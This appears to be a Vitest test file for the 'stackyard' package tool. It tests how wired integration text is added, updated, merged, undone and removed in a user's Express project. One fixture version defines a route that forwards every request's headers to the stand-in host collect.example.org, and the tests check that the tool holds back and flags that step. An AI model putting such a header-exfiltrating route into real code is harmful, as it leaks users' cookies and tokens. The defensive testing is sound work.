/** Wired text through the program: what an update does with it, in the files of the user, and the way back. */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it, test } from 'vitest';
import { treeOf } from './project-tree.ts';
import type { Ended } from '../run/script-process.ts';
import type { VersionDocument } from '../../format/index/version-document.ts';
import { GitFixture, build } from '../generate/git-fixture.ts';
import { makeProject, serveRegistry, stackyard } from './registry-fixture.ts';

/** A build whose guide creates a file and mounts it; all its steps are wired. */
function greeter(version: string, greeting: string, route: string): ReturnType<typeof build> {
  const guide = `## Steps

1. Create the file:

   \`\`\`ts wire file src/greeter.wire.ts
   import { version } from './greeter/src/index.js';

   export const greeting = {
     text: '${greeting}',
     version,
     isLoud: false,
   };
   \`\`\`

2. Mount it:

   \`\`\`ts wire import @express
   import { greeting } from './greeter.wire.js';
   \`\`\`

   \`\`\`ts wire insert @express routes
   ${route}
   \`\`\`
`;
  const changes = { base: 'src/greeter', files: ['src/**'] };
  return build('a/greeter', version, changes, { 'INTEGRATION.md': guide });
}

/** A build that adds to the file of the other one. Its id sorts after that of the other one. */
function polite(): ReturnType<typeof build> {
  const guide = `## Steps

1. Add it:

   \`\`\`ts wire import src/greeter.wire.ts
   import { version as polite } from './polite/src/index.js';
   \`\`\`
`;
  const changes = { base: 'src/polite', files: ['src/**'], builds: { 'a/greeter': '^1.0.0' } };
  return build('b/polite', '1.0.0', changes, { 'INTEGRATION.md': guide });
}

const APP = `import express from 'express';

const app = express();
app.get('/health', (_req, res) => res.end());
app.use((_req, res) => res.sendStatus(404));
`;
const SENDING = `app.get('/greeting', (req, res) => {
     void fetch('https://collect.example.org/h', { headers: req.headers as never });
     res.json(greeting);
   });`;
const PROJECT = {
  'package.json': '{\n  "type": "module",\n  "dependencies": {\n    "express": "^5.0.0"\n  }\n}\n',
  'src/app.ts': APP,
};

let project = '';
let url = '';
let index = '';
let run: (...args: string[]) => Promise<Ended>;
const read = (path: string): string => readFileSync(join(project, path), 'utf8');
const edit = (path: string, from: string, to: string): void => {
  expect(read(path)).toContain(from);
  writeFileSync(join(project, path), read(path).replace(from, to));
};

beforeEach(async () => {
  const git = new GitFixture();
  const route = (path: string): string => `app.get('${path}', (_req, res) => res.json(greeting));`;
  git.commit(greeter('1.0.0', 'Hello', route('/hello')));
  git.commit(greeter('1.1.0', 'Good day', route('/greeting')));
  // The next version sends what the application has.
  git.commit(greeter('1.2.0', 'Good evening', SENDING));
  git.commit(polite());
  ({ url, index } = await serveRegistry(git));
  project = makeProject(PROJECT);
  run = (...args) => stackyard([...args, '-C', project], { STACKYARD_REGISTRY: url });
});

async function addFirst(): Promise<void> {
  const added = await run('add', 'a/greeter@1.0.0', '--wire', '--no-install');
  expect([added.status, added.stderr]).toEqual([0, '']);
  expect(read('src/app.ts')).toContain("app.get('/hello'");
}

describe('add --wire', () => {
  it('suggests the steps of the guide only where one is left that is not listed', async () => {
    const wired = await run('add', 'a/greeter@1.0.0', '--wire', '--no-install', '--dry-run');
    expect(wired.stdout).not.toContain('--integration');
    const done = await run('add', 'a/greeter@1.0.0', '--wire', '--no-install');
    expect(done.stdout).not.toContain('--integration');
    await run('remove', 'a/greeter', '--no-install');
    const plain = await run('add', 'a/greeter@1.0.0', '--no-install');
    expect(plain.stdout).toContain('Next: stackyard info a/greeter --integration');
    await run('remove', 'a/greeter', '--no-install');
    edit('src/app.ts', 'express();', 'express();\nconst other = express();');
    const left = await run('add', 'a/greeter@1.0.0', '--wire', '--no-install');
    expect(left.stdout).toMatch(/^By hand:\n {2}step \d, /m);
    expect(left.stdout).not.toContain('--integration');
  });
});

describe('update', () => {
  it('replaces wired text, and undo brings it back', async () => {
    await addFirst();
    const before = await treeOf(project);
    const updated = await run('update', 'a/greeter@~1.1.0', '--no-install');
    expect(updated.status).toBe(0);
    expect(updated.stdout).toContain(`  ~ src/app.ts: step 2  new text
      - app.get('/hello', (_req, res) => res.json(greeting));
      + app.get('/greeting', (_req, res) => res.json(greeting));
`);
    expect(updated.stdout).toContain(`      -   text: 'Hello',
      +   text: 'Good day',
          version,
`);
    expect(updated.stdout).not.toContain('--integration');
    expect(read('src/app.ts')).toContain("app.get('/greeting'");
    expect(read('src/app.ts')).not.toContain('/hello');
    expect(read('src/greeter.wire.ts')).toContain("text: 'Good day'");
    expect((await run('verify')).status).toBe(0);
    expect((await run('undo')).status).toBe(0);
    expect(await treeOf(project)).toEqual(before);
  });

  it('merges with edits of the user in the file that it has created', async () => {
    await addFirst();
    edit('src/greeter.wire.ts', 'isLoud: false', 'isLoud: true');
    expect((await run('update', 'a/greeter@~1.1.0', '--no-install')).status).toBe(0);
    expect(read('src/greeter.wire.ts')).toMatch(/'Good day'[^]*isLoud: true/);
  });

  it('stops where both changed a line, and names the step', async () => {
    await addFirst();
    edit('src/app.ts', "'/hello'", "'/hi'");
    const before = await treeOf(project);
    const stopped = await run('update', 'a/greeter@~1.1.0', '--no-install');
    expect(stopped.status).toBe(5);
    expect(stopped.stderr).toContain('step 2 of "a/greeter" in src/app.ts');
    expect(stopped.stderr).toContain('2. Mount it:');
    expect(await treeOf(project)).toEqual(before);
    const ours = await run('update', 'a/greeter@~1.1.0', '--no-install', '--conflict', 'ours');
    expect(ours.status).toBe(0);
    expect(read('src/app.ts')).toContain("app.get('/hi'");
    expect(read('src/greeter.wire.ts')).toContain('Good day');
  });
});

test('the published capabilities of a version have those of its blocks', () => {
  const hostsOf = (version: string): unknown => {
    const text = readFileSync(join(index, `builds/a/greeter/${version}.json`), 'utf8');
    return (JSON.parse(text) as VersionDocument).capabilities.hosts;
  };
  expect([hostsOf('1.1.0'), hostsOf('1.2.0')]).toEqual([[], ['collect.example.org']]);
});

const SENDS = 'its new text can send data to collect.example.org';

describe('an update whose text can do more', () => {
  const update = (...args: string[]): Promise<Ended> =>
    run('update', 'a/greeter@^1.2.0', '--no-install', ...args);

  it('leaves the text as it was with --yes, shows both, and names how to carry the step out', async () => {
    await addFirst();
    const app = read('src/app.ts');
    const updated = await update('--yes');
    expect(updated.status).toBe(0);
    expect(read('src/app.ts')).toBe(app);
    // The step that can do nothing new is carried out.
    expect(read('src/greeter.wire.ts')).toContain('Good evening');
    expect(updated.stdout).toContain(`  ! src/app.ts: step 2  stays without your yes: ${SENDS}
      - app.get('/hello', (_req, res) => res.json(greeting));
      + app.get('/greeting', (req, res) => {
      +   void fetch('https://collect.example.org/h', { headers: req.headers as never });
      +   res.json(greeting);
      + });
`);
    expect(updated.stderr).toContain(
      `Step 2 of "a/greeter" stays as it was in src/app.ts: ${SENDS}. Read it above, then "stackyard add a/greeter --wire" carries it out`,
    );
    expect((await run('verify')).status).toBe(0);
    const again = await update('--yes');
    expect(again.stdout).toContain('Up to date: a/greeter');
    expect(read('src/app.ts')).toBe(app);
    const wired = await run('add', '--wire', 'a/greeter');
    expect([wired.status, wired.stderr]).toEqual([0, '']);
    expect(wired.stdout).toContain("      +   void fetch('https://collect.example.org/h'");
    expect(read('src/app.ts')).toContain('collect.example.org');
    expect((await run('verify')).status).toBe(0);
  });

  it('has the texts and what they can do in the plan', async () => {
    await addFirst();
    const entries = async () => {
      const { stdout } = await update('--dry-run', '--json');
      const { data } = JSON.parse(stdout) as { data: { plan: { wiring: object[] } } };
      return data.plan.wiring;
    };
    const text = expect.stringContaining('collect.example.org');
    const old = "app.get('/hello', (_req, res) => res.json(greeting));";
    expect(await entries()).toEqual([
      expect.objectContaining({
        step: 1,
        action: 'replaced',
        before: expect.stringContaining('Hello'),
      }),
      {
        build: 'a/greeter',
        step: 2,
        file: 'src/app.ts',
        action: 'held',
        before: old,
        text,
        why: SENDS,
        gains: ['send data to collect.example.org'],
      },
    ]);
  });

  it('wires no build that the user left unwired', async () => {
    await run('add', 'a/greeter@1.0.0', '--no-install');
    expect((await update('--yes')).status).toBe(0);
    expect(read('src/app.ts')).toBe(APP);
  });
});

describe('remove', () => {
  it('leaves the project as it was, with text of one build in the file of another', async () => {
    const before = await treeOf(project);
    const added = await run('add', 'b/polite', '--wire', '--no-install');
    expect([added.status, added.stderr]).toEqual([0, '']);
    expect(read('src/greeter.wire.ts')).toContain("from './polite/src/index.js'");
    const removed = await run('remove', 'b/polite', 'a/greeter', '--no-install');
    expect([removed.status, removed.stderr]).toEqual([0, '']);
    expect(await treeOf(project)).toEqual(before);
  });
});

/** A build whose only step is to put `line` where `role` is. */
function mounting(id: string, role: string, line: string, builds = {}): ReturnType<typeof build> {
  const fence = '```';
  const guide = `## Steps\n\n1. Mount it:\n\n   ${fence}ts wire insert ${role} routes\n   ${line}\n   ${fence}\n`;
  const changes = { base: `src/${id.slice(2)}`, files: ['src/**'], builds };
  return build(id, '1.0.0', changes, { 'INTEGRATION.md': guide });
}

test('a step for another framework is left to the user only where no build mounts what it would', async () => {
  const git = new GitFixture();
  git.commit(mounting('a/store', '@express', "app.use('/store', () => {});"));
  const plugin = "app.get('/store', async () => ({}));";
  git.commit(mounting('a/web', '@fastify', plugin, { 'a/store': '^1.0.0' }));
  const { url } = await serveRegistry(git);
  const leftOf = async (id: string): Promise<unknown[]> => {
    const server =
      "import fastify from 'fastify';\n\nconst app = fastify();\nawait app.listen({ port: 3000 });\n";
    const project = makeProject({
      'package.json': '{ "type": "module" }\n',
      'src/server.ts': server,
    });
    const rest = ['--no-prove', '--no-install', '--json', '-C', project, '--registry', url];
    const { stdout } = await stackyard(['add', id, '--wire', '--yes', ...rest]);
    const { data } = JSON.parse(stdout) as {
      data: { plan: { wiring: { action: string; why?: string }[] } };
    };
    expect(readFileSync(join(project, 'src/server.ts'), 'utf8').includes(plugin)).toBe(
      id === 'a/web',
    );
    return data.plan.wiring.flatMap(({ action, why }) => (action === 'by_hand' ? [why] : []));
  };
  expect(await leftOf('a/store')).toEqual(['no file makes an application with express']);
  expect(await leftOf('a/web')).toEqual([]);
});

// Both guides have the same step, which the required build carried out. The next version requires nothing.
describe('wired text of a build that is no longer required', () => {
  const wiring = (from: string): string => `## Steps

1. Create the file:

   \`\`\`ts wire file src/accounts.wire.ts
   import { version } from './${from}/src/index.js';

   export const accounts = { version };
   \`\`\`
`;

  it('follows the steps of the build that stays', async () => {
    const files = ['src/**'];
    const guide = { 'INTEGRATION.md': wiring('core') };
    const git = new GitFixture();
    git.commit(build('a/core', '1.0.0', { base: 'src/core', files }, guide));
    const requires = { base: 'src/accounts', files, builds: { 'a/core': '^1.0.0' } };
    git.commit(build('b/accounts', '1.0.0', requires, guide));
    const alone = { 'INTEGRATION.md': wiring('accounts') };
    git.commit(build('b/accounts', '2.0.0', { base: 'src/accounts', files }, alone));
    const registry = await serveRegistry(git);
    project = makeProject(PROJECT);
    const ask = (...args: string[]): Promise<Ended> =>
      stackyard([...args, '--no-install', '-C', project], { STACKYARD_REGISTRY: registry.url });
    expect((await ask('add', 'b/accounts@1.0.0', '--wire')).status).toBe(0);
    expect(read('src/accounts.wire.ts')).toContain("'./core/src/index.js'");
    expect((await ask('update', '--latest')).status).toBe(0);
    expect(read('src/accounts.wire.ts')).toContain("'./accounts/src/index.js'");
    expect(
      Object.keys((JSON.parse(read('stackyard.lock.json')) as { builds: object }).builds),
    ).toEqual(['b/accounts']);
  });
});
